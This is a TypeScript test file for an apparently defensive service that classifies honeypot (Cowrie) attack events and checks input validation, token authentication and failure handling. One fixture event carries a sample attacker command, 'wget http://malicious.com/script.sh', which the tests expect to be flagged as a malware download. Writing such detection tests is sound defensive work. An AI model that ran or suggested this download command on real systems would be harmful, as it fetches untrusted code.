import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type RequestListener, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sessionKeyOf } from '@cerberusmesh/contract/between-stages';
import type { SensorEvent } from '@cerberusmesh/contract/sensor-event';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { makeLines } from '../../bench/make-lines.ts';
import { assessBatch } from '../src/assess/assess-batch.ts';
import { loadAssess } from '../src/assess/load-assess.ts';
import { createAssessAhead } from '../src/assess/remote/assess-ahead.ts';
import { createMlClient } from '../src/assess/remote/ml-client.ts';
import { startSession } from '../src/assess/session-state.ts';
import { projectDir } from '../src/compose/project.ts';
import { createNormalize } from '../src/normalize/normalize.ts';
import { type EngineProcess, startProcess } from './support/engine-process.ts';

const assess = loadAssess({ modelsFolder: join(projectDir, 'models'), policyFolder: join(projectDir, 'policy') });
const events = readEvents([...makeLines(600)]);

/** The seed's example, word for word. */
const seedQuestion = {
  event_id: 'uuid',
  event_type: 'cowrie.command.input',
  timestamp: '2024-11-29T12:00:00Z',
  source_ip: '192.168.1.100',
  command: 'wget http://malicious.com/script.sh',
  username: 'root',
  password: 'admin123',
};

describe('cerberus ml', () => {
  let folder: string;
  let ml: EngineProcess;
  let url: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'cerberus-ml-'));
    ml = startProcess(['ml', '--no-database'], { CERBERUS_DATA_DIR: folder, CERBERUS_ML_PORT: '0' });
    url = await ml.untilSaid(/is up: (http\S+)/);
  });
  afterAll(async () => {
    expect(await ml.kill('SIGTERM')).toBe(0);
    await rm(folder, { recursive: true, force: true });
  });

  it("answers the seed's example with the seed's fields and no others", async () => {
    const { status, body } = await post('/classify', seedQuestion);
    expect(status).toBe(200);
    expect(body).toEqual({
      severity: 'HIGH',
      anomaly_score: expect.any(Number),
      labels: { attack_type: 'malware_download', confidence: expect.any(Number) },
      features: { command_length: 35, suspicious_keywords: expect.arrayContaining(['wget']) },
    });
  });

  it('answers a login and an event of a type that nobody knows', async () => {
    const { command: _, ...login } = { ...seedQuestion, event_type: 'cowrie.login.failed', command: null };
    expect((await post('/classify', login)).body).toMatchObject({
      severity: 'LOW',
      labels: { attack_type: 'brute_force' },
      features: { command_length: 0, suspicious_keywords: [] },
    });
    const typed = await post('/classify', { ...seedQuestion, event_type: 'shell' });
    expect(typed.body).toMatchObject({ severity: 'HIGH' });
  });

  it('is in health, and says with which models', async () => {
    const answer = await fetch(`${url}/health`);
    expect(await answer.json()).toMatchObject({ status: 'healthy', model_version: 'shipped' });
  });

  it.each([
    ['no event type', { ...seedQuestion, event_type: undefined }],
    ['a time that is none', { ...seedQuestion, timestamp: 'yesterday' }],
    ['a command of half a million characters and one', { ...seedQuestion, command: 'a'.repeat(512 * 1024 + 1) }],
    ['a list', [seedQuestion]],
    ['a command event without its command', { ...seedQuestion, command: null }],
  ])('refuses %s with 400 and says what was wrong', async (_what, question) => {
    const { status, body } = await post('/classify', question);
    expect(status).toBe(400);
    expect(body).toMatchObject({ error: { code: 'VALIDATION_FAILED', details: expect.anything() } });
  });

  it('assesses a batch as the engine itself would have', async () => {
    const client = createMlClient({ url, token: undefined, timeoutMs: 10_000 });
    expect(await client.assess({ events, sessions: [] })).toEqual(
      await assessBatch({ events, sessions: [] }, assess, (_event, error) => {
        throw error;
      }),
    );
  });

  it('gives the same sessions whether it is asked once or in many batches', async () => {
    const ahead = createAssessAhead({
      client: createMlClient({ url, token: undefined, timeoutMs: 10_000 }),
      breaker: { isOpen: () => false, failed: () => undefined },
      onFailure: (error) => {
        throw error;
      },
    });
    const states = new Map<string, ReturnType<typeof startSession>>();
    for (let start = 0; start < events.length; start += 37) {
      const batch = events.slice(start, start + 37);
      const answer = await ahead(batch, (key) => states.get(key));
      for (const event of batch) remember(states, event, answer);
    }
    const direct = new Map<string, ReturnType<typeof startSession>>();
    for (const event of events) remember(direct, event, assess);
    expect(states).toEqual(direct);
  });

  async function post(path: string, body: unknown) {
    const headers = { 'content-type': 'application/json' };
    const answer = await fetch(`${url}${path}`, { method: 'POST', headers, body: JSON.stringify(body) });
    return { status: answer.status, body: await answer.json() };
  }
});

it('refuses to listen on every address without a token, and asks for it where it has one', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'cerberus-ml-'));
  const env = { CERBERUS_DATA_DIR: folder, CERBERUS_ML_PORT: '0', CERBERUS_ML_HOST: '0.0.0.0' };
  const refused = startProcess(['ml', '--no-database'], env);
  await refused.untilSaid(/without a token: set CERBERUS_ML_TOKEN/);
  const ml = startProcess(['ml', '--no-database'], { ...env, CERBERUS_ML_TOKEN: 'a shared secret' });
  const url = (await ml.untilSaid(/is up: (http\S+)/)).replace('0.0.0.0', '127.0.0.1');
  const ask = async (headers: Record<string, string>) =>
    (await fetch(`${url}/classify`, { method: 'POST', headers })).status;
  expect(await ask({})).toBe(401);
  expect(await ask({ authorization: 'Bearer other' })).toBe(401);
  expect((await fetch(`${url}/health`)).status).toBe(200);
  const client = createMlClient({ url, token: 'a shared secret', timeoutMs: 10_000 });
  expect((await client.assess({ events: events.slice(0, 1), sessions: [] })).assessments).toHaveLength(1);
  await ml.kill('SIGTERM');
  await rm(folder, { recursive: true, force: true });
});

describe('an engine whose service fails', () => {
  const open: (() => Promise<unknown>)[] = [];
  afterEach(async () => {
    for (const close of open.splice(0)) await close();
  });

  const valid = { assessments: [null] };
  it.each<[string, RequestListener]>([
    ['never answers', () => undefined],
    ['answers 500', (_request, response) => response.writeHead(500).end('no')],
    ['answers no JSON', (_request, response) => response.end('<html>')],
    [
      'answers another shape',
      (_request, response) => response.end(JSON.stringify({ assessments: [{ severity: 'X' }] })),
    ],
    ['answers too few', (_request, response) => response.end(JSON.stringify(valid))],
    ['sends without end', (_request, response) => void forever(response)],
    ['hangs up', (request) => request.socket.destroy()],
    ['sends elsewhere', (_request, response) => response.writeHead(302, { location: '/health' }).end()],
  ])(
    'stores without an assessment where it %s, asks no more, and the sessions go on counting',
    async (_what, listener) => {
      const service = createServer(listener).listen(0, '127.0.0.1');
      await once(service, 'listening');
      open.push(
        async () => service.closeAllConnections(),
        async () => await new Promise((done) => service.close(done)),
      );
      // `as`: a server that listens on a port has an address with one.
      const { port } = service.address() as AddressInfo;
      let failures = 0;
      let isOpen = false;
      const ahead = createAssessAhead({
        client: createMlClient({ url: `http://127.0.0.1:${port}`, token: undefined, timeoutMs: 300 }),
        breaker: { isOpen: () => isOpen, failed: () => (isOpen = true) },
        onFailure: () => failures++,
      });
      for (let round = 0; round < 3; round++) {
        const answer = await ahead(events.slice(0, 10), () => undefined);
        const event = events[0];
        if (event === undefined) throw new Error('no event');
        const { assessment, session } = answer(event, startSession(event));
        expect(assessment).toBeNull();
        expect(session).toMatchObject({ events: 1, severity: 'LOW' });
      }
      expect(failures).toBe(1);
    },
  );
});

async function forever(response: ServerResponse): Promise<void> {
  const chunk = Buffer.alloc(1 << 20, 'a');
  const closed = once(response, 'close');
  while (!response.destroyed) if (!response.write(chunk)) await Promise.race([once(response, 'drain'), closed]);
}

function remember(
  states: Map<string, ReturnType<typeof startSession>>,
  event: SensorEvent,
  judge: typeof assess,
): void {
  const key = sessionKeyOf(event);
  if (key !== undefined) states.set(key, judge(event, states.get(key) ?? startSession(event)).session);
}

function readEvents(lines: readonly string[]): SensorEvent[] {
  const normalize = createNormalize();
  return lines.flatMap((text) => normalize({ text, coveredBytes: text.length + 1 }).line?.event ?? []);
}
